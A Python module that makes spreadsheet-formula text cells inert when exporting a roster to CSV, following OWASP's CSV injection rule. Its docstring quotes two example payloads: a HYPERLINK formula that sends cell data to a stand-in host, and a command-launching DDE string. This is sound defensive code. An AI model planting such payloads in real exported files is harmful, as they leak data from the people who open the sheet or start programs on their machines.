"""Text cells a spreadsheet would run as a formula, made inert (issue 34, item 7).

A roster name such as `=HYPERLINK("http://evil.example?"&A2, "see")` or `@SUM(1+1)*cmd|' /C calc'!A0`,
written as it is into a CSV the organizer opens in Excel, LibreOffice or Google Sheets, is a formula:
it can send the sheet's cells elsewhere or start a program. OWASP's rule ("CSV Injection"): a cell
beginning with = + - @, a tab or a carriage return is prefixed with a single quote, which the
spreadsheet shows as text and does not run. Only text cells are changed: numbers (a negative score)
are written by the caller as numbers and stay numbers.
"""
from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def starts_a_formula(text: str) -> bool:
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def inert_cell(value):
    """A text value with a leading single quote if a spreadsheet would read it as a formula; anything
    else (numbers, None, harmless text) as it is."""
    return "'" + value if starts_a_formula(value) else value


def inert_row(values) -> list:
    return [inert_cell(v) for v in values]


def inert_table(table):
    """A copy of a pandas DataFrame whose text cells are inert; number columns are not touched."""
    from pandas.api.types import is_bool_dtype, is_numeric_dtype

    table = table.copy()
    for column in table.columns:
        if not (is_numeric_dtype(table[column]) or is_bool_dtype(table[column])):
            table[column] = table[column].map(inert_cell)
    return table
